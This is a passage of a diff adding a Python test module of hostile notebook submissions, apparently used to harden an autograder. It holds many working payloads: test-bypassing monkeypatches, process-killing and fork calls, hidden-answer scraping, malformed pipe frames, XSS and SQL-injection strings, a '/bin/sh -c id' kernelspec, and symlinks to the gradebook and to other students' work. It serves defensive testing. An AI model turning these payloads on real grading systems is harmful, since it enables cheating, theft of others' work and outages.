@@ -1,0 +1,932 @@
+"""Hostile submissions in four families.
+
+Every attack is a submission that earns nothing: its answers are left out or wrong. One that reaches
+something it must not have prints ``GOT`` and what it got. A few hold an honest answer besides; they
+say which marks are earned.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import stat
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from courses import ANSWERS, SmallCourse, cell, solution, tests
+from nbformat import v4
+
+Build = Callable[[SmallCourse, Path], None]
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile submission.
+
+    Attributes
+    ----------
+    name : str
+    family : {"kernel", "file", "environment", "resource"}
+    build : callable
+        Writes the submission into a folder.
+    earned : dict
+        Marks that its answers deserve; none by default.
+    often : bool
+        Whether it belongs to the representative part.
+    """
+
+    name: str
+    family: str
+    build: Build
+    earned: dict[str, float] = field(default_factory=dict)
+    often: bool = False
+
+
+QUESTIONS = ("double", "mean", "scale", "apply", "parts")
+TESTS = {f"test_{name}": 1.0 for name in QUESTIONS}
+ATTACKS: list[Attack] = []
+
+
+def course_cells() -> list[Any]:
+    """An assignment whose tests use the ways of testing that attacks aim at."""
+    stub = "### BEGIN SOLUTION\n    {}\n    ### END SOLUTION"
+    return [
+        cell("import numpy as np\n\ndef close(a, b):\n    return np.allclose(a, b)\n\nDATA = [3, 4]"),
+        solution(f"def double(x):\n    {stub.format('return 2 * np.asarray(x)')}", "double"),
+        tests(
+            "assert np.allclose(double([1.0, 2.0]), [2.0, 4.0])\n"
+            "### BEGIN HIDDEN TESTS\n"
+            "secret = np.array([31337.25, -7.5])\n"
+            "np.testing.assert_allclose(double(secret), 2 * secret)\n"
+            "### END HIDDEN TESTS",
+            "test_double",
+        ),
+        solution(f"def mean(x):\n    {stub.format('return sum(x) / len(x)')}", "mean"),
+        tests(
+            "assert mean(DATA) == 3.5\n"
+            "assert abs(mean([1, 2, 4.5]) - 2.5) < 1e-9\n"
+            "### BEGIN HIDDEN TESTS\n"
+            "assert mean([4, 6, 8, 31337]) == 7838.75\n"
+            "### END HIDDEN TESTS",
+            "test_mean",
+        ),
+        solution(f"def scale(x):\n    {stub.format('return np.asarray(x) / np.max(x)')}", "scale"),
+        tests(
+            "assert (scale([1.0, 4.0]) == np.array([0.25, 1.0])).all()\n"
+            "assert close(scale([2.0, 5.0]), [0.4, 1.0])\n"
+            "assert scale([2.0, 8.0]).shape == (2,)\n"
+            "assert sorted(scale([2.0, 8.0])) == [0.25, 1.0]",
+            "test_scale",
+        ),
+        solution(f"def apply(f, x):\n    {stub.format('return [f(v) for v in x]')}", "apply"),
+        tests(
+            "calls = []\n"
+            "def square(v):\n    calls.append(v)\n    return v * v\n"
+            "assert apply(square, [1, 2, 3]) == [1, 4, 9]\n"
+            "assert calls == [1, 2, 3]",
+            "test_apply",
+        ),
+        solution(f"def parts(n):\n    {stub.format('return list(range(n))')}", "parts"),
+        tests(
+            "got = parts(4)\n"
+            "points = 0.0\n"
+            "points += 0.5 * (len(got) == 4)\n"
+            "points += 0.5 * (got == [0, 1, 2, 3])\n"
+            "points",
+            "test_parts",
+        ),
+    ]
+
+
+HONEST = ANSWERS | {
+    "scale": "def scale(x):\n    return np.asarray(x) / np.max(x)",
+    "apply": "def apply(f, x):\n    return [f(v) for v in x]",
+    "parts": "def parts(n):\n    return list(range(n))",
+}
+# Every function returns what the attack calls `answer`.
+ALL_RETURN = {
+    "double": "def double(x):\n    return answer(x)",
+    "mean": "def mean(x):\n    return answer(x)",
+    "scale": "def scale(x):\n    return answer(x)",
+    "apply": "def apply(f, x):\n    return answer(x)",
+    "parts": "def parts(n):\n    return answer(n)",
+}
+
+
+def notebook_of(course: SmallCourse, answers: dict[str, str]) -> Any:
+    """The released notebook with these answers."""
+    notebook = course.release()
+    for node in notebook.cells:
+        name = node.metadata.get("nbgrader", {}).get("grade_id")
+        if name in answers:
+            node.source = answers[name]
+    return notebook
+
+
+def put(folder: Path, notebook: Any) -> None:
+    """Write without nbformat's own checks: an attacker does not ask it."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "ps.ipynb").write_text(json.dumps(notebook), encoding="utf-8", errors="surrogatepass")
+
+
+def code(name: str, family: str, first: str, *, often: bool = False, **options: Any) -> None:
+    """An attack by a cell before, and optionally one after, and answers that use `answer`."""
+    answers = options.get("answers", ALL_RETURN if "answer" in first else {})
+
+    def build(course: SmallCourse, folder: Path) -> None:
+        notebook = notebook_of(course, answers)
+        source = first.replace("{root}", str(course.root)).replace("{port}", str(course.port))
+        notebook.cells.insert(0, v4.new_code_cell(source=source))
+        if "last" in options:
+            notebook.cells.append(v4.new_code_cell(source=options["last"]))
+        put(folder, notebook)
+
+    ATTACKS.append(Attack(name, family, build, options.get("earned", {}), often))
+
+
+def file(name: str, *, often: bool = False, **earned: float) -> Callable[[Build], Build]:
+    """Register an attack that builds its own files."""
+
+    def register(build: Build) -> Build:
+        ATTACKS.append(Attack(name, "file", build, earned, often))
+        return build
+
+    return register
+
+
+# --- tampering inside the kernel ------------------------------------------------------------------
+
+KERNEL = {
+    "patch-allclose": "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
+    "np.testing.assert_allclose = lambda *a, **k: None",
+    "patch-array-equality": "import numpy as np\nnp.array = lambda *a, **k: Yes()\n"
+    "class Yes:\n    def __eq__(self, o): return True\n    def all(self): return True\n"
+    "def answer(x): return Yes()",
+    "patch-assertion-error": "import builtins\nclass Quiet(BaseException): pass\n"
+    "builtins.AssertionError = Quiet",
+    "patch-import": "import builtins\nold = builtins.__import__\n"
+    "builtins.__import__ = lambda *a, **k: old(*a, **k)",
+    "patch-builtins": "import builtins\nbuiltins.abs = builtins.len = lambda x: 0\n"
+    "builtins.sorted = lambda x: [0.25, 1.0]\nbuiltins.all = lambda x: True",
+    "shadow-builtins": "abs = lambda x: 0\nlen = lambda x: 4\nsorted = lambda x: [0.25, 1.0]\n"
+    "def answer(x): return 0",
+    "shadow-numpy": "class np:\n    @staticmethod\n    def allclose(*a): return True\n"
+    "    class testing:\n        @staticmethod\n        def assert_allclose(*a): pass\n"
+    "    @staticmethod\n    def array(x): return x\ndef answer(x): return x",
+    "shadow-helper": "def close(a, b): return True\nDATA = []\ndef answer(x): return 3.5",
+    "shadow-test-names": "secret = 0\nsquare = None\ncalls = [1, 2, 3]\npoints = 1.0\ngot = []\n"
+    "def answer(x): return None",
+    "ast-transformer": "import ast\nclass Drop(ast.NodeTransformer):\n"
+    "    def visit_Assert(self, node): return ast.Pass()\n"
+    "get_ipython().ast_transformers.append(Drop())",
+    "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])",
+    "run-cell-override": "ip = get_ipython()\nip.run_cell = lambda *a, **k: None",
+    "event-hook": "get_ipython().events.register('pre_run_cell', lambda *a: 1 / 0)",
+    "display-forged-score": "from IPython.display import display\ndisplay(1.0)\nprint('1.0')\n1.0",
+    "settrace": "import sys\nsys.settrace(lambda f, e, a: None)\nsys.setprofile(lambda *a: None)",
+    "always-equal": "class A:\n    def __eq__(self, o): return True\n"
+    "    def __ne__(self, o): return False\n    def __lt__(self, o): return True\n"
+    "    def __sub__(self, o): return self\n    __rsub__ = __sub__\n"
+    "    def __abs__(self): return 0.0\n    def __len__(self): return 4\n"
+    "    def __iter__(self): return iter([0.25, 1.0])\n    def __bool__(self): return True\n"
+    "    def all(self): return True\n    shape = (2,)\ndef answer(x): return A()",
+    "float-subclass": "class F(float):\n    def __eq__(self, o): return True\n"
+    "    def __sub__(self, o): return 0.0\n    def __abs__(self): return 0.0\n"
+    "    def __lt__(self, o): return True\n    __hash__ = float.__hash__\n"
+    "def answer(x): return F(1)",
+    "int-subclass": "class I(int):\n    def __eq__(self, o): return True\n"
+    "    def __sub__(self, o): return 0\n    __hash__ = int.__hash__\ndef answer(x): return I(1)",
+    "str-subclass": "class S(str):\n    def __eq__(self, o): return True\n"
+    "    def __len__(self): return 4\n    __hash__ = str.__hash__\ndef answer(x): return S('x')",
+    "list-subclass": "class L(list):\n    def __eq__(self, o): return True\n"
+    "    def __len__(self): return 3\ndef answer(x): return L([1])",
+    "tuple-subclass": "class T(tuple):\n    def __eq__(self, o): return True\n"
+    "    __hash__ = None\ndef answer(x): return T((1,))",
+    "array-subclass": "import numpy as np\nclass N(np.ndarray):\n"
+    "    def __array_ufunc__(self, *a, **k): return True\n"
+    "    def __array_function__(self, *a, **k): return True\n"
+    "    def __eq__(self, o): return np.array(True)\n    def all(self, *a, **k): return True\n"
+    "def answer(x): return np.zeros(2).view(N)",
+    "array-protocol": "import numpy as np\nclass P:\n"
+    "    def __array__(self, *a, **k): raise SystemExit\n"
+    "    __array_interface__ = {'shape': (2,), 'typestr': '|O', 'data': (1, False), 'version': 3}\n"
+    "    __array_struct__ = 7\ndef answer(x): return P()",
+    "masked-array": "import numpy as np\ndef answer(x): return np.ma.masked_all(2)",
+    "object-array": "import numpy as np\nclass A:\n    def __eq__(self, o): return True\n"
+    "def answer(x): return np.array([A(), A()], dtype=object)",
+    "method-allclose": "class M:\n    def __getattr__(self, n): return lambda *a, **k: True\n"
+    "def answer(x): return M()",
+    "everything-mock": "from unittest.mock import MagicMock\ndef answer(x): return MagicMock()",
+    "nan": "def answer(x): return float('nan')",
+    "nan-array": "import numpy as np\ndef answer(x): return np.full(2, np.nan)",
+    "infinite": "def answer(x): return float('inf')",
+    "score-of-millions": "def answer(x): return 1e9",
+    "boolean-true": "def answer(x): return True",
+    "return-nothing": "def answer(x): return None",
+    "return-module": "import os\ndef answer(x): return os",
+    "return-class": "def answer(x): return int",
+    "return-self": "def answer(x): return answer",
+    "return-argument": "def answer(x): return x",
+    "frames": "import sys\ndef answer(x):\n    f = sys._getframe()\n    while f:\n"
+    "        for k, v in list(f.f_locals.items()):\n"
+    "            if '7838' in repr(v) or 'assert ' in repr(v): print('GOT', k, v)\n"
+    "        f = f.f_back\n    return 0",
+    "garbage-search": "import gc\ndef answer(x):\n    for o in gc.get_objects():\n"
+    "        try:\n            if isinstance(o, (str, list, dict)) and '7838.75' in str(o):\n"
+    "                print('GOT', o)\n        except Exception: pass\n    return 0",
+    "inspect-caller": "import inspect\ndef answer(x):\n"
+    "    return eval(inspect.stack()[1].frame.f_globals.get('expected', '0'))",
+    "exit-zero": "import os\ndef answer(x): os._exit(0)",
+    "sys-exit": "import sys\ndef answer(x): sys.exit(0)",
+    "keyboard-interrupt": "def answer(x): raise KeyboardInterrupt",
+    "generator-exit": "def answer(x): raise GeneratorExit",
+    "stop-iteration": "def answer(x): raise StopIteration([1, 4, 9])",
+    "kill-self": "import os, signal\ndef answer(x): os.kill(os.getpid(), signal.SIGKILL)",
+    "kill-all": "import os, signal\ndef answer(x):\n    os.kill(-1, signal.SIGKILL)\n    return 0",
+    "kill-parent": "import os, signal\ndef answer(x):\n    for p in (os.getppid(), 0, 1, 2, 3):\n"
+    "        try: os.kill(p, signal.SIGTERM)\n        except OSError: pass\n    return 0",
+    "segfault": "import ctypes\ndef answer(x): ctypes.string_at(0)",
+    "abort": "import os\ndef answer(x): os.abort()",
+    "at-exit": "import atexit, os\natexit.register(lambda: os._exit(0))\ndef answer(x): raise SystemExit",
+    "raise-hostile": "class E(Exception):\n    def __str__(self): raise SystemExit\n"
+    "    def __repr__(self): raise SystemExit\ndef answer(x): raise E",
+    "raise-endless-text": "class E(Exception):\n    def __str__(self): return 'x' * 10**8\n"
+    "def answer(x): raise E",
+    "raise-named-checkfailed": "class CheckFailed(AssertionError): is_feedback = True\n"
+    "def answer(x): raise CheckFailed('<script>alert(1)</script>')",
+    "raise-named-timeout": "class CellTimeout(BaseException): pass\nclass SessionEnded(CellTimeout): pass\n"
+    "def answer(x): raise SessionEnded",
+    "raise-group": "def answer(x): raise BaseExceptionGroup('g', [SystemExit()])",
+    "raise-deep-chain": "def answer(x, n=0):\n    try: 1 / 0\n"
+    "    except Exception as e:\n        if n < 900: answer(x, n + 1)\n        raise e",
+    "hostile-metaclass": "class M(type):\n    def __getattribute__(c, n): raise SystemExit\n"
+    "class A(metaclass=M): pass\ndef answer(x): return A",
+    "hostile-class-property": "class A:\n    __class__ = property(lambda s: float)\n"
+    "    def __float__(self): return 3.5\ndef answer(x): return A()",
+    "hostile-len": "class A:\n    def __len__(self): return 2**62\n"
+    "    def __getitem__(self, i): return 0\ndef answer(x): return A()",
+    "hostile-iterator": "class A:\n    def __iter__(self): return self\n"
+    "    def __next__(self): return 0\ndef answer(x): return A()",
+    "hostile-dict": "class D(dict):\n    def items(self): raise SystemExit\n"
+    "    def __eq__(self, o): return True\ndef answer(x): return D(a=1)",
+    "hostile-name": "def answer(x): pass\nclass A:\n    __name__ = 7\n    def __call__(self): pass\n"
+    "def answer(x): return A()",
+    "recursive-list": "def answer(x):\n    l = []\n    l.append(l)\n    return l",
+    "deep-list": "def answer(x):\n    l = []\n    for _ in range(5000): l = [l]\n    return l",
+    "wide-list": "def answer(x): return [[0] * 1000] * 10000",
+    "huge-integer": "def answer(x): return 1 << 10**7",
+    "huge-range": "def answer(x): return range(10**15)",
+    "huge-empty-shape": "import numpy as np\ndef answer(x): return np.zeros((2**40, 0))",
+    "lone-surrogates": "def answer(x):\n    print('\\ud800\\x00\\x1b[2J\\u202e')\n    return '\\udfff'",
+    "hash-collisions": "def answer(x): return {i * (2**61 - 1): 0 for i in range(20000)}",
+    "library-reference": "import sys\nfor n in list(sys.modules) + ['rnncourse.exercises', 'solutions',"
+    " 'rnncourse.rnn']:\n    try:\n        m = __import__(n, fromlist=['x'])\n"
+    "        f = getattr(m, 'rnn_step', None)\n"
+    "        if f is not None and f(1, 2, 3, 4, 5) is None: print('GOT?', n)\n"
+    "    except BaseException: pass\n"
+    "import rnncourse.rnn\nif getattr(rnncourse.rnn, '__file__', None): print('GOT', 'library')",
+    "patch-runner": "import sys\nm = sys.modules['inside.student']\n"
+    "m._Runner.do_call = lambda s, t, a, k: True\n"
+    "m._Runner.do_names = lambda s, n: {k: (lambda *a: True) for k in n}",
+    "patch-encoder": "import sys\nw = sys.modules['inside.wire']\n"
+    "w.Encoder.encode = lambda s, v, depth=0: ['array', '|O8', [1], 0]",
+    "patch-os-exit": "import os\nos._exit = lambda *a: None\nimport sys\nsys.exit = lambda *a: None",
+    "replace-display": "import sys\nsys.displayhook = lambda v: None\nsys.stdout = None\nsys.stderr = None",
+    "background-thread": "import threading\ndef loop():\n    while True:\n        try: double = mean = None\n"
+    "        except BaseException: pass\nthreading.Thread(target=loop, daemon=True).start()",
+    "fork-and-stay": "import os\nif os.fork() == 0:\n    pass",
+    "fork-in-call": "import os\ndef answer(x):\n    os.fork()\n    return 3.5",
+}
+OFTEN = set(
+    "patch-allclose always-equal float-subclass array-subclass method-allclose everything-mock "
+    "shadow-numpy shadow-helper ast-transformer exit-zero segfault raise-hostile patch-runner "
+    "garbage-search hostile-iterator deep-list".split()
+)
+# A list of four wrong numbers has the right length, too, and the test gives half a point for that.
+PARTLY = {"always-equal": {"test_parts": 0.5}}
+for _name, _source in KERNEL.items():
+    code(_name, "kernel", _source, often=_name in OFTEN, earned=PARTLY.get(_name, {}))
+
+# Forged frames: a thread or the function itself speaks the wire's language.
+FORGE = """
+import json, os, struct
+def frame(header, *buffers):
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack('>I', len(text)) + text + b''.join(buffers)
+def send(header, *buffers, sizes=None):
+    sizes = [len(b) for b in buffers] if sizes is None else sizes
+    os.write(3, frame(json.dumps([header, sizes]).encode(), *buffers))
+def value(node, *buffers, sizes=None):
+    send({'value': node, 'outputs': []}, *buffers, sizes=sizes)
+"""
+FRAMES = {
+    "pass-and-score": "send({'passed': True, 'score': 1.0, 'error': None, 'cell': 2, 'end': True})",
+    "reply-in-advance": "for _ in range(50): value(True)",
+    "none-in-advance": "for _ in range(50): value(None)",
+    "huge-header": "os.write(3, struct.pack('>I', 2**32 - 1) + b'x' * 1000)",
+    "header-at-limit": "os.write(3, struct.pack('>I', 8 << 20) + b' ' * (8 << 20))",
+    "not-json": "os.write(3, frame(b'{'))",
+    "not-utf8": "os.write(3, frame(b'\\xff\\xfe'))",
+    "deep-json": "os.write(3, frame(b'[' * 200000))",
+    "huge-number": "os.write(3, frame(b'[{\"value\":' + b'9' * 5000000 + b'},[]]'))",
+    "many-buffers": "send({}, sizes=[0] * 500000)",
+    "negative-buffer": "value(['array', '<f8', [1], 0], sizes=[-8])",
+    "promised-buffer": "value(['array', '<f8', [1], 0], sizes=[60 << 20])",
+    "buffer-bomb": "value(['list', [['array', '|u1', [1 << 20], 0]] * 5000], b'0' * (1 << 20))",
+    "object-dtype": "value(['array', '|O', [1], 0], b'\\x41' * 8)",
+    "void-dtype": "value(['array', '|V8', [1], 0], b'\\x41' * 8)",
+    "structured-dtype": "value(['array', \"[('a','O')]\", [1], 0], b'\\x41' * 8)",
+    "forged-boolean": "value(['array', '|b1', [4], 0], b'\\x40\\x41\\xff\\x02')",
+    "negative-shape": "value(['array', '<f8', [-1], 0], b'0' * 8)",
+    "overflow-shape": "value(['array', '<f8', [2**32, 2**32, 4], 0], b'')",
+    "zero-shape": "value(['array', '<f8', [2**47, 0], 0], b'')",
+    "shape-of-floats": "value(['array', '<f8', [1.0], 0], b'0' * 8)",
+    "many-dimensions": "value(['array', '<f8', [1] * 100, 0], b'0' * 8)",
+    "nested-tuples": "n = 1\nfor _ in range(900): n = ['tuple', [n]]\nvalue(n)",
+    "unhashable-key": "value(['dict', [[['list', []], 1]]])",
+    "unknown-node": "value(['pickle', 'cos\\\\nsystem'])",
+    "remote-nonsense": "value(['remote', -1, 'class', True, 'x', 'y', []])",
+    "remote-wrong-types": "value(['remote', 'a', 7, 'b', [], {}, None])",
+    "remote-million": "value(['list', [['remote', i, 'x', True, 't', 'n', []] for i in range(150000)]])",
+    "callback-unknown": "send({'callback': 10**9, 'arguments': ['tuple', []]})",
+    "callback-arguments": "send({'callback': 0, 'arguments': ['dict', [[1, 2]]]})",
+    "callback-flood": "while True: send({'callback': 0, 'arguments': "
+    "['tuple', [['tuple', [1]], ['dict', []]]]})",
+    "error-of-wrong-type": "send({'error': [1, 2], 'outputs': []})",
+    "error-systemexit": "send({'error': {'types': ['SystemExit'], 'text': ''}, 'outputs': []})",
+    "error-assertion-none": "send({'error': {'types': [None, 7, {}], 'text': None}, 'outputs': []})",
+    "outputs-nonsense": "send({'value': None, 'outputs': [1, [2], ['stream', 3, 4], ['display', 5]]})",
+    "outputs-html": "send({'value': None, 'outputs': [['display', {'text/html': '<script>', "
+    "'image/svg+xml': '<svg onload=x>', 'image/png': 'not base64', "
+    "'application/javascript': 'x'}], ['stream', 'stderr', 'GOT?']]})",
+    "outputs-flood": "send({'value': None, 'outputs': [['stream', 'stdout', 'x' * 70000]] * 100})",
+    "partial-frame": "os.write(3, b'\\x00\\x00'); import time; time.sleep(60)",
+    "dripping-frame": "import time\nos.write(3, struct.pack('>I', 100000))\n"
+    "while True: os.write(3, b' '); time.sleep(0.2)",
+    "namedtuple-keyword": "value(['namedtuple', 'x; import os', ['a b'], [1]])",
+    "namedtuple-dunder": "value(['namedtuple', 'T', ['__class__'], [1]])",
+    "generator-forged": "value(['generator', 'PCG64', ['dict', [['state', 1]]]])",
+    "generator-seed": "value(['generator', 'SeedSequence', ['dict', []]])",
+    "texts-too-long": "value(['texts', [2**40], ['x']])",
+    "texts-padded": "value(['texts', [100000], ['x' * 5000] + ['y'] * 99999])",
+    "integer-not-hex": "value(['int', '0x' + 'f' * 100])",
+    "integer-endless": "value(['int', 'f' * 1000000])",
+    "slice-of-strings": "value(['slice', [['list', []], 'a', 1]])",
+    "tensor-without-torch": "value(['tensor', 'float32', [1], 0, True], b'0000')",
+    "datetime-unit": "value(['array', '<M8[999999999999999s]', [1], 0], b'0' * 8)",
+}
+for _name, _source in FRAMES.items():
+    _body = "\n".join("    " + line for line in _source.splitlines())
+    code(
+        f"wire-{_name}",
+        "kernel",
+        f"{FORGE}\ndef answer(x):\n{_body}\n    return 0",
+        often=_name in {"pass-and-score", "buffer-bomb", "forged-boolean", "deep-json"},
+    )
+code(
+    "wire-all-descriptors",
+    "kernel",
+    "import os\nfor n in range(300):\n    try: os.write(n, b'\\x00\\x00\\x00\\x02{}')\n"
+    "    except OSError: pass",
+    often=True,
+)
+code(
+    "wire-close-descriptors",
+    "kernel",
+    "import os\nos.closerange(0, 300)",
+)
+code(
+    "wire-read-along",
+    "kernel",
+    "import os, threading\ndef steal():\n    while True:\n        data = os.read(3, 65536)\n"
+    "        if b'7838' in data: print('GOT', data)\n"
+    "        if not data: return\nthreading.Thread(target=steal, daemon=True).start()",
+)
+code(
+    "wire-oracle",
+    "kernel",
+    "def answer(x):\n    return x",
+    answers={"apply": "def apply(f, x):\n    return [f.__closure__, f.__globals__, f.__code__]"},
+)
+code(
+    "hidden-inputs-later",
+    "kernel",
+    "SEEN = []",
+    answers={"mean": "def mean(x):\n    SEEN.append(x)\n    return sum(x) / len(x)"},
+    last="print('INPUTS', SEEN)",
+    earned={"test_mean": 1.0},
+)
+code(
+    "hidden-inputs-by-exception",
+    "kernel",
+    "pass",
+    answers={
+        "double": "def double(x):\n    if float(x[0]) > 9: raise ValueError(f'INPUTS {x}')\n"
+        "    return 2 * np.asarray(x)"
+    },
+)
+code(
+    "hidden-inputs-by-print",
+    "kernel",
+    "pass",
+    answers={"mean": "def mean(x):\n    print('INPUTS', x)\n    return 3.5 if 3 in x else 2.5"},
+)
+
+# --- the notebook's file --------------------------------------------------------------------------
+
+
+def changed(name: str, *, often: bool = False, **earned: float) -> Callable[[Any], Any]:
+    """Register an attack that changes the released notebook, with no answers in it."""
+
+    def register(change: Callable[[Any], Any]) -> Any:
+        def build(course: SmallCourse, folder: Path) -> None:
+            notebook = json.loads(json.dumps(notebook_of(course, {})))
+            result = change(notebook)
+            put(folder, notebook if result is None else result)
+
+        ATTACKS.append(Attack(name, "file", build, earned, often))
+        return change
+
+    return register
+
+
+def graded(notebook: Any) -> list[Any]:
+    """The test cells of a notebook."""
+    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]
+
+
+@changed("points-forged", often=True)
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        node["metadata"]["nbgrader"]["points"] = 1000
+        node["source"] = "pass"
+
+
+@changed("tests-emptied", often=True)
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        node["source"] = ""
+        node["metadata"]["nbgrader"]["locked"] = False
+        node["metadata"]["nbgrader"]["solution"] = True
+
+
+@changed("tests-deleted", often=True)
+def _(notebook: Any) -> None:
+    notebook["cells"] = [c for c in notebook["cells"] if c not in graded(notebook)]
+
+
+@changed("everything-deleted")
+def _(notebook: Any) -> None:
+    notebook["cells"] = []
+
+
+@changed("tests-as-markdown", often=True)
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        node["cell_type"] = "markdown"
+        del node["outputs"], node["execution_count"]
+
+
+@changed("tests-as-raw")
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        node["cell_type"] = "raw"
+
+
+@changed("tag-skip-execution", often=True)
+def _(notebook: Any) -> None:
+    for node in notebook["cells"]:
+        node["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
+
+
+@changed("ids-duplicated", often=True)
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        copy = json.loads(json.dumps(node)) | {"source": "pass", "id": "x"}
+        notebook["cells"] += [copy, json.loads(json.dumps(copy))]
+
+
+@changed("ids-swapped")
+def _(notebook: Any) -> None:
+    first, second = graded(notebook)[:2]
+    a, b = first["metadata"]["nbgrader"], second["metadata"]["nbgrader"]
+    a["grade_id"], b["grade_id"] = b["grade_id"], a["grade_id"]
+
+
+@changed("ids-nonsense")
+def _(notebook: Any) -> None:
+    for node, value in zip(graded(notebook), [None, 7, ["x"], {"a": 1}, "no such"], strict=False):
+        node["metadata"]["nbgrader"]["grade_id"] = value
+
+
+@changed("ids-by-sql")
+def _(notebook: Any) -> None:
+    graded(notebook)[0]["metadata"]["nbgrader"]["grade_id"] = "'; DROP TABLE grade; --"
+
+
+@changed("order-reversed")
+def _(notebook: Any) -> None:
+    notebook["cells"].reverse()
+
+
+@changed("metadata-nonsense")
+def _(notebook: Any) -> None:
+    for number, node in enumerate(notebook["cells"]):
+        node["metadata"] = [None, [], "x", 7, {"nbgrader": 3}, {"nbgrader": []}][number % 6]
+
+
+@changed("metadata-missing")
+def _(notebook: Any) -> None:
+    for node in notebook["cells"]:
+        del node["metadata"]
+
+
+@changed("outputs-stored", often=True)
+def _(notebook: Any) -> None:
+    for node in graded(notebook):
+        node["outputs"] = [
+            {
+                "output_type": "execute_result",
+                "data": {"text/plain": "1.0", "text/html": "<script>alert('XSS')</script>"},
+                "metadata": {},
+                "execution_count": 1,
+            }
+        ]
+
+
+@changed("html-in-markdown", often=True)
+def _(notebook: Any) -> None:
+    text = "<script>alert('XSS')</script><img src=x onerror=alert(1)> ![t](http://tracker.example/x)"
+    notebook["cells"].append(
+        {"cell_type": "markdown", "metadata": {}, "source": text, "id": "z", "attachments": {}}
+    )
+
+
+@changed("attachments")
+def _(notebook: Any) -> None:
+    notebook["cells"].append(
+        {
+            "cell_type": "markdown",
+            "metadata": {},
+            "source": "![x](attachment:x.svg)",
+            "attachments": {"x.svg": {"image/svg+xml": "<svg onload='alert(1)'>"}},
+        }
+    )
+
+
+@changed("kernelspec-command")
+def _(notebook: Any) -> None:
+    notebook["metadata"]["kernelspec"] = {"name": "../../evil", "argv": ["/bin/sh", "-c", "id"]}
+    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "<"}}
+    notebook["metadata"]["language_info"] = "x" * 100000
+
+
+@changed("format-99")
+def _(notebook: Any) -> None:
+    notebook["nbformat"], notebook["nbformat_minor"] = 99, "x"
+
+
+@changed("format-3")
+def _(notebook: Any) -> Any:
+    return {"nbformat": 3, "worksheets": [{"cells": notebook["cells"]}], "metadata": {}}
+
+
+@changed("cells-nonsense")
+def _(notebook: Any) -> None:
+    notebook["cells"] += [None, 7, "x", [], {}, {"cell_type": "code"}, {"source": 7}]
+
+
+@changed("cells-not-a-list")
+def _(notebook: Any) -> None:
+    notebook["cells"] = {"0": "x"}
+
+
+@changed("source-nonsense")
+def _(notebook: Any) -> None:
+    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": [1, {"a": 2}]})
+    notebook["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": "\ud800\x00"})
+
+
+@changed("many-cells")
+def _(notebook: Any) -> None:
+    notebook["cells"] += [{"cell_type": "code", "metadata": {}, "source": "1"}] * 5000
+
+
+@changed("one-long-line")
+def _(notebook: Any) -> None:
+    notebook["cells"].append({"cell_type": "code", "metadata": {}, "source": "x" * (2 << 20)})
+
+
+@changed("cell-ids-forged")
+def _(notebook: Any) -> None:
+    for node in notebook["cells"]:
+        node["id"] = "../../etc/passwd\n<script>"
+
+
+def raw(name: str, data: bytes, *, often: bool = False) -> None:
+    """An attack that is a file of these bytes."""
+
+    def build(course: SmallCourse, folder: Path) -> None:
+        folder.mkdir(parents=True)
+        (folder / "ps.ipynb").write_bytes(data)
+
+    ATTACKS.append(Attack(name, "file", build, often=often))
+
+
+raw("not-json", b"hello", often=True)
+raw("empty-file", b"")
+raw("binary", bytes(range(256)) * 100)
+raw("json-null", b"null")
+raw("json-list", b"[]")
+raw("json-nan", b'{"cells": NaN}')
+raw("deep-json", b"[" * 1_000_000, often=True)
+raw("deep-json-objects", b'{"cells":' * 100_000)
+raw("utf-16", '{"cells": []}'.encode("utf-16"))
+raw("byte-order-mark", b'\xef\xbb\xbf{"cells": []}')
+raw("truncated", b'{"cells": [{"cell_type": "code", "sour')
+raw("duplicate-keys", b'{"cells": [], "cells": {"a": 1}, "nbformat": 4}')
+
+
+@file("sparse-terabyte", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    with (folder / "ps.ipynb").open("wb") as handle:
+        handle.truncate(1 << 40)
+
+
+@file("link-to-gradebook", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    (folder / "ps.ipynb").symlink_to(course.root / "gradebook.db")
+    (folder / "data.txt").symlink_to(course.root / "gradebook.db")
+
+
+@file("link-to-honest-work", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    (folder / "ps.ipynb").symlink_to(course.root / "submitted" / "honest-1" / "ps" / "ps.ipynb")
+
+
+@file("hard-link-to-honest-work", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    target = course.root / "copy-of-honest.ipynb"
+    put(course.root / "copy", notebook_of(course, HONEST))
+    os.replace(course.root / "copy" / "ps.ipynb", target)
+    os.link(target, folder / "ps.ipynb")
+
+
+@file("folder-is-link", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.parent.mkdir(parents=True)
+    folder.symlink_to(course.root / "submitted" / "honest-1" / "ps")
+
+
+@file("folder-in-link")
+def _(course: SmallCourse, folder: Path) -> None:
+    put(folder, notebook_of(course, {}))
+    (folder / "others").symlink_to(course.root / "submitted")
+
+
+@file("notebook-is-folder")
+def _(course: SmallCourse, folder: Path) -> None:
+    (folder / "ps.ipynb").mkdir(parents=True)
+
+
+@file("notebook-is-fifo", often=True)
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    os.mkfifo(folder / "ps.ipynb")
+
+
+@file("notebook-is-device")
+def _(course: SmallCourse, folder: Path) -> None:
+    folder.mkdir(parents=True)
+    if os.getuid() == 0:
